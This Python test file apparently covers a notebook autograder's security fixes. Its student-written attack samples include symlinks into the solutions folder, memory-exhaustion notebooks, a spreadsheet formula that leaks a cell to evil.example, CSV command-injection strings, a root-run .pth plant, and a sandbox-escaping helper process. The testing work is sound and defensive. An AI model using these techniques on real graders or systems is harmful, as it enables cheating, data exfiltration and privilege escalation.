"""Issue 27 (items 1, 2, 6, 7, 8) and issue 30 item 1, each attack written as a student (or a
failed run) would do it, against the grader with its source in hand.

- S1: notebooks that are symbolic links to /proc/self/cwd/solutions/NN.ipynb (`grade`, the
  Gradescope runner), to a classmate's notebook, to /proc/self/fd/N (a pipe), a FIFO: refused.
- Denial: a module with thousands of 500-character parameter names (messages capped), one cell
  holding an 8 MB list literal (not parsed), a zip of big zips (streamed, capped per student),
  a student the watchdog has to stop: the honest students' rows and the CSV are written.
- Nothing lost: a failed run leaves an existing CSV byte-identical; a run that does not regrade
  some rows keeps them; a run killed half-way is resumed from its journal.
- Formula injection in a student's name; the public seed refused; /proc/1/cmdline in the
  sandbox; the container mode's shared /tmp, /dev/shm and keyrings.
"""
from __future__ import annotations

import csv
import json
import contextlib
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder.grading.grader import Grader
from autograder.sandbox.policy import hidden_paths

from grading_helpers import REPO, read_gradebook

CH2, CH5 = "02_scaled_dot_product_attention", "05_masks"
FULL5 = "13.0"


def _copy(chapter: str, folder: Path, kind: str = "solutions", extra: list[str] = ()) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    nb = nbformat.read(REPO / kind / f"{chapter}.ipynb", as_version=4)
    nb.cells += [nbformat.v4.new_code_cell(src) for src in extra]
    nbformat.write(nb, folder / f"{chapter}.ipynb")
    return folder / f"{chapter}.ipynb"


def _batch(*args, env=None, timeout=900):
    return subprocess.run([sys.executable, "-m", "autograder", "batch", *map(str, args), "--no-progress",
                           "--device", "cpu"], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})})


# ----------------------------------------------------------------------------- 27.1: links
def test_notebooks_linked_to_the_solutions_score_nothing_with_grade(tmp_path, monkeypatch):
    """Before: 159/159 (the grader, as root, followed the links into its own solutions)."""
    monkeypatch.chdir(REPO)  # (/proc/self/cwd is the grader's working folder)
    sub = tmp_path / "sub"
    sub.mkdir()
    for chapter in (CH5, "01_intuition"):
        os.symlink(f"/proc/self/cwd/solutions/{chapter}.ipynb", sub / f"{chapter}.ipynb")
    nested = sub / "work"
    os.symlink(REPO / "solutions", nested)  # a linked folder: not entered
    result = Grader(device="cpu").grade_path(sub)
    assert result.score == 0
    assert sum("symbolic link" in n for n in result.notes) == 2, result.notes
    linked = tmp_path / "linked"
    os.symlink(REPO / "solutions", linked)  # the submission folder itself a link
    result = Grader(device="cpu").grade_path(linked)
    assert result.score == 0 and any("symbolic link" in n for n in result.notes)


def test_the_gradescope_runner_copies_without_following_links(tmp_path, monkeypatch):
    """Before: 13/13 in the Gradescope bundle with 05_masks.ipynb a link to the solutions."""
    from autograder.integrations.gradescope import run

    monkeypatch.chdir(REPO)
    root = tmp_path / "autograder"
    (root / "submission" / "more").mkdir(parents=True)
    os.symlink(f"/proc/self/cwd/solutions/{CH5}.ipynb", root / "submission" / f"{CH5}.ipynb")
    os.mkfifo(root / "submission" / "more" / "02_scaled_dot_product_attention.ipynb")  # never written to
    data = run(root, [CH5])
    assert data["score"] == 0
    assert "symbolic link" in data["output"] and "not a regular file" in data["output"], data["output"]


def test_links_to_a_classmate_a_pipe_and_a_fifo_in_a_batch(tmp_path):
    """Before: a link to /proc/self/fd/14 (a pipe the batch worker holds) blocked the batch
    forever, with no CSV for anyone; a link to a classmate's notebook scored what they score.
    Also here: a submitter named as a spreadsheet formula (X1)."""
    klass = tmp_path / "class"
    alice = _copy(CH5, klass / "alice")
    (klass / "bob").mkdir()
    os.symlink(alice, klass / "bob" / f"{CH5}.ipynb")
    (klass / "carol").mkdir()
    os.symlink("/proc/self/fd/14", klass / "carol" / f"{CH5}.ipynb")
    (klass / "dave").mkdir()
    os.mkfifo(klass / "dave" / f"{CH5}.ipynb")
    formula = '=HYPERLINK("evil.example?leak="&B4,"x")'  # (no slash: a folder name)
    _copy(CH5, klass / formula, kind="exercises")
    r = _batch(klass, "--jobs", "2", "--csv", tmp_path / "grades.csv")
    assert r.returncode == 0, r.stderr
    rows = read_gradebook(tmp_path / "grades.csv")
    assert rows["alice"]["Total"] == FULL5
    for name, why in (("bob", "symbolic link"), ("carol", "symbolic link"), ("dave", "named pipe")):
        assert rows[name][CH5] == "" and why in rows[name]["Notes"], rows[name]
    with open(tmp_path / "grades.csv", newline="") as f:
        names = [row[0] for row in csv.reader(f)]
    assert "'" + formula in names and formula not in names


# ----------------------------------------------------------------------------- 27.2: denial
MANY_NAMES = '''
import torch
from torch import nn

_Honest = SelfAttention

class SelfAttention(_Honest):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        for i in range(2000):  # the issue's attack had 29,000: each message was 14 MB
            self.register_buffer("b" * 490 + str(i), torch.zeros(1))
'''

HUGE_LITERAL = "data = [" + ",".join(str(i % 997) for i in range(1_700_000)) + "]\n"  # ~8 MB


def test_huge_messages_and_a_huge_cell_leave_the_class_graded(tmp_path):
    """Before: (b) 14 MB per message, results.json 173 MB, the worker OOM-killed mid-send and
    the batch waiting forever; (c) the batch's main process parsed the 8 MB cell for the
    identical-code flag and was OOM-killed (4.07 GB): no CSV, no class report."""
    klass = tmp_path / "class"
    for chapter in (CH2, CH5):
        _copy(chapter, klass / "alice")
        _copy(chapter, klass / "bob", extra=[MANY_NAMES] if chapter == CH2 else [])
        _copy(chapter, klass / "carol", extra=[HUGE_LITERAL] if chapter == CH5 else [])
    r = _batch(klass, "--jobs", "2", "--csv", tmp_path / "grades.csv", "--out", tmp_path / "out")
    assert r.returncode == 0, r.stderr
    rows = read_gradebook(tmp_path / "grades.csv")
    full = str(float(13 + 18))
    assert rows["alice"]["Total"] == full
    assert rows["carol"][CH5] == FULL5  # the huge cell is not run; the rest of the notebook is
    assert "more than the 100,000 a cell may hold" in json.dumps(
        json.loads((tmp_path / "out" / "carol" / "grading.json").read_text()))
    assert float(rows["bob"][CH2]) < 18 and rows["bob"]["Status"] == "ok"
    saved = (tmp_path / "out" / "bob" / "results.json").read_text()
    assert len(saved) < 2_000_000, len(saved)  # 2000 names of 500 characters: 1 MB per message
    messages = [t["output"] for t in json.loads(saved)["tests"]]
    assert any("more characters" in m for m in messages)
    assert (tmp_path / "out" / "class_report.html").is_file()


def test_the_watchdog_stops_a_student_who_outlasts_budget_and_margin(tmp_path):
    """A worker still at one student after their budget plus the margin is killed there, and
    the student is `error` (not graded again, not a hang); the CSV is written. The cell swallows
    the child's own interrupt, so only the parent's kill, `grace` (2 s) later, ends it: a plain
    sleep ended at the 1 s budget, racing the watchdog (lost once the batch's zygote came up
    before the first student, stop 45). The killed worker's temporary folders (its staged
    runtime, zygote, sandbox and session folders) are removed when the batch ends: before, they
    stayed in /tmp."""
    import tempfile

    klass = tmp_path / "class"
    swallowing = "import time\nwhile True:\n    try:\n        time.sleep(60)\n    except BaseException:\n        pass\n"
    _copy(CH5, klass / "slow", extra=[swallowing])
    tmp = Path(tempfile.mkdtemp(prefix="batch-tmpdir-"))  # (under /tmp: the sandbox's nobody reads it)
    try:
        tmp.chmod(0o755)
        r = _batch(klass, "--jobs", "1", "--csv", tmp_path / "grades.csv",
                   env={"AUTOGRADER_STUDENT_BUDGET": "1", "AUTOGRADER_WATCHDOG_MARGIN": "0", "TMPDIR": str(tmp)})
        assert r.returncode == 4, r.stderr
        row = read_gradebook(tmp_path / "grades.csv")["slow"]
        assert row["Status"] == "error" and "longer than 1 s" in row["Notes"], row
        assert sorted(os.listdir(tmp)) == []
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def test_a_zip_of_big_zips_is_streamed_and_capped_per_student(tmp_path, monkeypatch):
    """Before: a 2 MB student zip of eight 250 MiB zips took 2.59 GB (each inner zip read into
    memory and kept). Scaled down here (8 MiB zips, a 20 MiB cap) and measured by tracemalloc."""
    import tracemalloc

    from autograder.lms import submissions as lms_import
    inner = tmp_path / "inner.zip"
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_STORED) as z:
        z.writestr("padding.bin", bytes(8 << 20))
        z.writestr(f"{CH5}.ipynb", (REPO / "solutions" / f"{CH5}.ipynb").read_bytes())
    outer = tmp_path / "export" / "parkjo_1005_5040_work.zip"
    outer.parent.mkdir()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(8):
            z.write(inner, f"part{i}.zip")
    (tmp_path / "export" / "smitherin_1001_5001_05_masks.ipynb").write_bytes(
        (REPO / "solutions" / f"{CH5}.ipynb").read_bytes())
    assert outer.stat().st_size < 1 << 20
    tracemalloc.start()
    try:
        report = lms_import.import_submissions(tmp_path / "export", tmp_path / "class", lms="canvas",
                                              max_zip_bytes=20 << 20)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 12 << 20, peak  # (before: 8 x 8 MiB held at once)
    reasons = [u.reason for u in report.unplaced]
    assert any("MiB of zips the importer unpacks for one student" in r for r in reasons), reasons
    assert (tmp_path / "class").is_dir() and any((tmp_path / "class").rglob(f"{CH5}.ipynb"))


def test_oversized_cells_are_not_parsed():
    from autograder.source.notebook import MAX_CELL_BYTES, capped_cells

    cells = capped_cells(["x = 1", "y = [" + "1," * MAX_CELL_BYTES + "]", "z = 2"])
    assert cells[0] == "x = 1" and cells[2] == "z = 2"
    assert cells[1].startswith("raise MemoryError(") and len(cells[1]) < 300


# ----------------------------------------------------------------------------- 30.1: nothing lost
def test_a_failed_run_leaves_an_existing_csv_byte_identical(tmp_path):
    """Before: `batch WRONG_FOLDER --csv grades.csv` printed "wrote grades.csv (1 student)",
    exited 2, and the 13-line CSV was now 3 lines."""
    grades = tmp_path / "grades.csv"
    grades.write_bytes(b"Student,ID\r\n    Points Possible,\r\n" + b"".join(
        f"s{i},{i}\r\n".encode() for i in range(11)))
    before = grades.read_bytes()
    wrong = tmp_path / "download"
    (wrong / "someone").mkdir(parents=True)
    (wrong / "someone" / "notes.pdf").write_bytes(b"%PDF-1.4")
    r = _batch(wrong, "--csv", grades, "--out", tmp_path / "out")
    assert r.returncode == 2 and "was not written" in r.stderr
    assert "wrote" not in r.stdout
    assert grades.read_bytes() == before
    assert not (tmp_path / "out").exists()


def test_rows_a_run_did_not_regrade_are_kept(tmp_path):
    from autograder.batch.grade_class import grade_class

    klass = tmp_path / "class"
    _copy(CH5, klass / "amy")
    _copy(CH5, klass / "ben", kind="exercises")
    grades = tmp_path / "grades.csv"
    grade_class(klass, Grader(device="cpu"), csv_path=grades, progress=False, in_process=True)
    shutil.rmtree(klass / "ben")  # (a folder gone from the class: its row stays)
    grade_class(klass, Grader(device="cpu"), csv_path=grades, progress=False, in_process=True)
    rows = read_gradebook(grades)
    assert set(rows) == {"amy", "ben"} and rows["ben"]["Total"] == "0.0"
    # Under other columns, such rows make the run refuse to write rather than drop them.
    before = grades.read_bytes()
    _copy("01_intuition", klass / "amy")
    with pytest.raises(ValueError, match="this run did not grade"):
        grade_class(klass, Grader(device="cpu"), csv_path=grades, progress=False, in_process=True)
    assert grades.read_bytes() == before


def test_a_run_killed_half_way_loses_nothing_and_is_resumed(tmp_path):
    klass = tmp_path / "class"
    names = ["ann", "ben", "cat", "dan"]
    for name in names:
        _copy(CH5, klass / name)
    grades = tmp_path / "grades.csv"
    grades.write_bytes(b"old,file\r\n")
    journal = tmp_path / "grades.csv.journal"
    proc = subprocess.Popen([sys.executable, "-m", "autograder", "batch", str(klass), "--jobs", "1",
                             "--no-progress", "--device", "cpu", "--csv", str(grades), "--out",
                             str(tmp_path / "out")], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            start_new_session=True)
    deadline = time.monotonic() + 600
    while proc.poll() is None and time.monotonic() < deadline:
        if journal.is_file() and len(journal.read_text().splitlines()) >= 3:  # header + 2 students
            os.killpg(proc.pid, signal.SIGKILL)
            break
        time.sleep(0.1)
    proc.communicate(timeout=60)
    assert proc.returncode == -signal.SIGKILL, "killed half-way"
    assert grades.read_bytes() == b"old,file\r\n"  # the CSV is written whole or not at all
    graded = [json.loads(line)["student"] for line in journal.read_text().splitlines()[1:]]
    assert len(graded) >= 2
    for name in graded:
        assert (tmp_path / "out" / name / "feedback.html").is_file()
    r = subprocess.run([sys.executable, "-m", "autograder", "batch", str(klass), "--jobs", "1",
                        "--device", "cpu", "--csv", str(grades), "--out", str(tmp_path / "out")],
                       capture_output=True, text=True, timeout=900)
    assert r.returncode == 0, r.stderr
    assert f"resuming an interrupted run: {len(graded)} students already graded" in r.stdout
    rows = read_gradebook(grades)
    assert {n: rows[n]["Total"] for n in names} == {n: FULL5 for n in names}
    assert not journal.exists()


# ----------------------------------------------------------------------------- 27.7, 27.8
def test_safe_cell():
    from autograder.report.csv_safe import cell as safe_cell

    for text in ("=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for text in ("13.0", "-1.5", "+2", "1e-05", "Alice", "", "(read only)"):
        assert safe_cell(text) == text


def test_a_graded_deployment_refuses_the_public_seed(tmp_path):
    from autograder.cases.inputs import DEFAULT_SEED, PublicSeed, course_seed

    klass = tmp_path / "class"
    _copy(CH5, klass / "amy")
    env = {k: v for k, v in os.environ.items() if k not in ("AUTOGRADER_SEED", "AUTOGRADER_ALLOW_PUBLIC_SEED")}
    for extra in ([], ["--seed", str(DEFAULT_SEED)]):
        r = subprocess.run([sys.executable, "-m", "autograder", "batch", str(klass), *extra, "--csv",
                            str(tmp_path / "g.csv")], capture_output=True, text=True, timeout=300, env=env)
        assert r.returncode == 2 and "no course seed" in r.stderr, r.stderr
        assert not (tmp_path / "g.csv").exists()
    os.environ.pop("AUTOGRADER_ALLOW_PUBLIC_SEED")
    try:
        with pytest.raises(PublicSeed):
            course_seed(None)
        assert course_seed(987654321) == 987654321
    finally:
        os.environ["AUTOGRADER_ALLOW_PUBLIC_SEED"] = "1"


def test_the_nbgrader_course_and_the_gradescope_zip_carry_a_seed_of_their_own(tmp_path, monkeypatch):
    from autograder.cases.inputs import DEFAULT_SEED
    from autograder.integrations.gradescope import RUN_AUTOGRADER
    from autograder.integrations.nbgrader import make_course

    config = (make_course(tmp_path / "course", chapters=[CH5]) / "nbgrader_config.py").read_text()
    seeds = [int(line.split("=")[1]) for line in config.splitlines() if line.startswith("c.SandboxedGrades.seed")]
    assert len(seeds) == 1 and seeds[0] != DEFAULT_SEED
    assert make_course(tmp_path / "course", chapters=[CH5]).joinpath("nbgrader_config.py").read_text() == config
    assert 'AUTOGRADER_SEED="$(cat "$ROOT/source/course-seed")"' in RUN_AUTOGRADER


@pytest.mark.needs_bwrap
def test_the_sandboxs_first_process_does_not_name_the_hidden_paths():
    """Before: /proc/1/cmdline (bwrap's) listed every hidden path as a --tmpfs target."""
    from session_helpers import lone_session

    cells = ["import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n"
             "        print('CMD', open(f'/proc/{p}/cmdline', 'rb').read().replace(b'\\0', b' ').decode())"]
    import tempfile

    secret = tempfile.mkdtemp(prefix="autograder-hidden-test-", dir="/etc")  # (inside a bound folder)
    try:
        with lone_session(cells, sandbox="bubblewrap", hide=[secret]) as s:
            out = s.start().output
    finally:
        os.rmdir(secret)
    lines = [l for l in out.splitlines() if l.startswith("CMD ")]
    assert any("bwrap" in l for l in lines), out
    hidden = [h for h in hidden_paths([secret]) if len(h) > 4]
    assert secret in hidden and not [h for h in hidden if any(h in l for l in lines)], out


# ----------------------------------------------------------------------------- 27.6: container mode
LEAVE = '''import ctypes, os
for d in ("/tmp", "/dev/shm"):
    with open(os.path.join(d, "left-by-student-one.py"), "w") as f:
        f.write("SECRET = 'answers of student one'")
    os.chmod(os.path.join(d, "left-by-student-one.py"), 0o644)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
key = libc.syscall(248, b"user", b"left-by-student-one", b"secret", 6, ctypes.c_long(-4))  # add_key
print("KEY", key, os.getuid())
'''
FIND = '''import ctypes, os
found = []
for d in ("/tmp", "/dev/shm"):
    try:
        found.append(open(os.path.join(d, "left-by-student-one.py")).read())
    except OSError as e:
        found.append(type(e).__name__)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
key = libc.syscall(250, 10, ctypes.c_long(-4), b"user", b"left-by-student-one", 0)  # KEYCTL_SEARCH
print("FOUND", found, key, os.getuid())
'''


@contextlib.contextmanager
def _container_session(cells, pooled: bool):
    """A container-mode session as an entry point runs it: with the student's pool (a warm
    worker of their uid, `student_pool`), closed after it; or, as a caller without one, a
    process per child."""
    from autograder.session import student_session as session_module
    from autograder.sandbox.modes import SandboxChoice, SandboxMode
    from autograder.sandbox.pool import student_pool

    container = SandboxChoice(SandboxMode.CONTAINER)  # (as the entry point would hand it down)
    pool = student_pool(container) if pooled else None
    assert (pool is not None) == pooled
    try:
        with session_module.StudentSession(cells, sandbox=container, sandboxes=pool) as session:
            yield session
    finally:
        if pool is not None:
            pool.close()


@pytest.mark.skipif(os.geteuid() != 0 or sys.platform != "linux", reason="the container mode needs root")
@pytest.mark.parametrize("pooled", [True, False], ids=["warm-worker", "process-per-child"])
def test_the_container_mode_leaves_nothing_for_the_next_student(pooled):
    """Before: a student's world-readable files in /tmp and /dev/shm stayed (48 MiB after a
    batch) and a later student, another uid, read and ran them; keys stayed in the uid's keyring."""
    with _container_session([LEAVE], pooled) as one:
        out = one.start().output
    uid_one = int(out.split("KEY")[1].split()[1])
    assert int(out.split("KEY")[1].split()[0]) > 0, out  # the key was added
    for d in ("/tmp", "/dev/shm"):
        assert not os.path.exists(os.path.join(d, "left-by-student-one.py"))
    with _container_session([FIND], pooled) as two:
        out = two.start().output
    assert "FOUND ['FileNotFoundError', 'FileNotFoundError'] -1" in out, out
    assert int(out.split()[-1]) != uid_one
    # Whoever gets student one's uid next finds its keyring empty.
    import ctypes

    from autograder.sandbox.uid_cleanup import as_uid

    syscall = ctypes.CDLL(None, use_errno=True).syscall
    syscall.restype = ctypes.c_long
    search = lambda: 0 if syscall(250, 10, ctypes.c_long(-4), b"user", b"left-by-student-one", 0) == -1 else 3
    assert as_uid(uid_one, search) == 0, "the key left by student one is still in its uid's keyring"


DAEMON = '''import os, time
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(w, str(os.getpid()).encode())
        while True:
            time.sleep(1)
    os._exit(0)
DAEMON_PID = int(os.read(r, 32))
print("CHAPTER", os.getpid(), os.getppid(), os.getuid(), DAEMON_PID)
'''


@pytest.mark.skipif(os.geteuid() != 0 or sys.platform != "linux", reason="the container mode needs root")
def test_container_chapters_fork_from_one_warm_worker_and_leave_no_daemon():
    """The container mode's chapters are forked from the student's warm worker (one torch import
    a student, not one a chapter: `grade solutions` 14.1 s -> 4.5 s on 2 cores), as the
    student's uid. A daemon a chapter leaves (double fork, a session of its own) does not outlive
    the chapter: it comes back to the worker, a subreaper, which kills it."""
    from autograder.sandbox.modes import SandboxChoice, SandboxMode
    from autograder.sandbox.pool import student_pool
    from autograder.session.student_session import StudentSession

    pool = student_pool(SandboxChoice(SandboxMode.CONTAINER))
    try:
        seen = []
        for _ in range(2):
            with StudentSession([DAEMON], sandbox=SandboxChoice(SandboxMode.CONTAINER), sandboxes=pool) as s:
                out = s.start().output
            chapter, worker, uid, daemon = map(int, out.split("CHAPTER")[1].split()[:4])
            seen.append((worker, uid))
            for _ in range(100):  # (the worker reaps on the chapter's end)
                if not os.path.exists(f"/proc/{daemon}") or open(f"/proc/{daemon}/stat").read().split()[2] == "Z":
                    break
                time.sleep(0.05)
            else:
                pytest.fail(f"the daemon {daemon} of chapter {chapter} outlived it")
        assert seen[0] == seen[1] and seen[0][1] == pool.uid != 0, seen  # one worker, the student's uid
    finally:
        pool.close()


PLANT_PTH = '''import os, signal, sys
site = os.path.join(os.environ["HOME"], ".local", "lib", "python%d.%d" % sys.version_info[:2], "site-packages")
for home in (os.environ["HOME"], os.path.dirname(os.environ["HOME"])):  # the chapter's, the worker's
    site = os.path.join(home, ".local", "lib", "python%d.%d" % sys.version_info[:2], "site-packages")
    os.makedirs(site, exist_ok=True)
    with open(os.path.join(site, "x.pth"), "w") as f:
        f.write("import os; open(%r, 'a').write('ran as uid %%d\\\\n' %% os.getuid())\\n" % MARK)
print("PLANTED", os.getuid(), flush=True)
if WHO == "worker":
    os.kill(os.getppid(), signal.SIGKILL)  # the warm worker (same uid): the next chapter starts a new one
else:
    os._exit(3)  # a crash: the session starts a new child
'''


@pytest.mark.skipif(os.geteuid() != 0 or sys.platform != "linux", reason="the container mode needs root")
@pytest.mark.parametrize("who", ["worker", "child"])
def test_a_pth_file_planted_in_home_never_runs_as_root(tmp_path, who):
    """Reviewer's finding (stop 37): in the container mode a process the grader starts runs as
    root until it drops to the student's uid, with HOME in the student's folder. A .pth file
    planted in HOME's user site-packages ran as root in the next one: a new warm worker after a
    chapter killed its own (`who="worker"`), or a restarted child after a crash (`"child"`,
    the process-per-child path, as before stop 37). Python now starts with -s. (The child path
    also could not start again after a crash: the crashed uid's clean-up removed the session's
    folder; it is made anew.)"""
    from autograder.sandbox.modes import SandboxChoice, SandboxMode
    from autograder.sandbox.pool import student_pool
    from autograder.session.student_session import StudentSession

    mark = tmp_path / "ran"
    tmp_path.chmod(0o777)  # (the student's uid may write the mark: only root must not run it)
    plant = f"MARK, WHO = {str(mark)!r}, {who!r}\n" + PLANT_PTH
    container = SandboxChoice(SandboxMode.CONTAINER)
    pool = student_pool(container) if who == "worker" else None
    try:
        if who == "worker":
            with StudentSession([plant], sandbox=container, sandboxes=pool) as s:
                assert "PLANTED" in s.start().output
            with StudentSession(["import os; print('SECOND', os.getuid())"], sandbox=container, sandboxes=pool) as s:
                out = s.start().output
        else:
            with StudentSession([plant, "import os; print('SECOND', os.getuid())"], sandbox=container) as s:
                out = s.start().output
    finally:
        if pool is not None:
            pool.close()
    assert "SECOND" in out, out  # (the child: started again after the crash, in a folder made anew)
    ran = mark.read_text() if mark.exists() else ""
    assert "ran as uid 0" not in ran, ran


ESCAPE = '''import ctypes, os, signal, time
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:  # the helper: its token wiped from what /proc/PID/environ shows
        f = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
        ctypes.memset(int(f[47]), 0, int(f[48]) - int(f[47]))
        os.write(w, str(os.getpid()).encode())
        while True:
            time.sleep(0.05)
    os._exit(0)
print("HELPER", int(os.read(r, 32)), flush=True)
os.kill(os.getppid(), signal.SIGKILL)  # its warm worker: the helper then belongs to init
time.sleep(5)
'''
MINE = '''import os
me = os.getuid()
mine = []
for p in filter(str.isdigit, os.listdir("/proc")):
    try:
        if int(open(f"/proc/{p}/status").read().split("Uid:")[1].split()[0]) == me:
            mine.append(int(p))
    except (OSError, IndexError, ValueError):
        pass
print("MINE", os.getpid(), os.getppid(), sorted(mine))
'''


@pytest.mark.skipif(os.geteuid() != 0 or sys.platform != "linux", reason="the container mode needs root")
def test_a_helper_that_escapes_its_chapter_is_gone_before_the_memory_case_runs():
    """Reviewer's finding (stop 37): in the container mode a chapter forked a helper, wiped its
    environment (the token the kill looks for) and killed its own warm worker; the helper went
    to init, out of every subreaper's reach, and ran beside the memory case's capped child until
    the student was done (it could compute the 2^26 scores for it through the shared folder).
    Now the pool kills every process of the student's uid that is not below a live worker
    before a chapter starts (`SandboxPool._sweep`): the memory case finds none but its own."""
    from autograder.sandbox.modes import SandboxChoice, SandboxMode
    from autograder.sandbox.pool import student_pool
    from autograder.session.student_session import StudentSession

    container = SandboxChoice(SandboxMode.CONTAINER)
    pool = student_pool(container)
    try:
        with StudentSession([ESCAPE], sandbox=container, sandboxes=pool) as s:
            out = s.start().output
        helper = int(out.split("HELPER")[1].split()[0])
        with StudentSession([MINE], sandbox=container, sandboxes=pool, memory_capped=True) as s:
            out = s.start().output
        me, worker, mine = out.split("MINE")[1].split(maxsplit=2)
        assert helper not in eval(mine), out
        assert set(eval(mine)) <= {int(me), int(worker)}, out  # the capped child and its worker alone
    finally:
        pool.close()
    assert not os.path.exists(f"/proc/{helper}") or open(f"/proc/{helper}/stat").read().split()[2] == "Z"


def test_the_sweep_kills_strays_only_from_one_consistent_reading(monkeypatch):
    """`SandboxPool._sweep` reads the uid's processes and their parents once: a chapter's child
    or an honest notebook's subprocess that starts while it reads is below a live worker, never
    a stray (a reviewer of stop 37 found two readings, between which a new process looked like
    one); a helper that belongs to init is killed; a worker that is starting is spared."""
    import threading
    import types

    from autograder.sandbox import pool as pool_module
    from autograder.sandbox.limits import Limits
    from autograder.sandbox.modes import SandboxMode

    worker, chapter, new_child, grandchild, helper, starting = 100, 101, 102, 103, 200, 300
    box = types.SimpleNamespace(proc=types.SimpleNamespace(pid=worker), alive=lambda: True)
    fresh = types.SimpleNamespace(proc=types.SimpleNamespace(pid=starting), alive=lambda: True)
    readings = iter([{worker: 1, chapter: worker, new_child: chapter, grandchild: new_child,
                      helper: 1, starting: 5}, {worker: 1, chapter: worker, starting: 5}])
    killed = []
    monkeypatch.setattr(pool_module.procs, "parents_of_uid", lambda uid: next(readings))
    monkeypatch.setattr(pool_module.procs, "kill_tree", lambda pid, rounds=20, also=None: killed.append(pid))
    fake = types.SimpleNamespace(mode=SandboxMode.CONTAINER, _lease=object(), uid=62999, limits=Limits(),
                                 _cond=threading.Condition(), _boxes=[box, fresh])
    pool_module.SandboxPool._sweep(fake)
    assert killed == [helper]
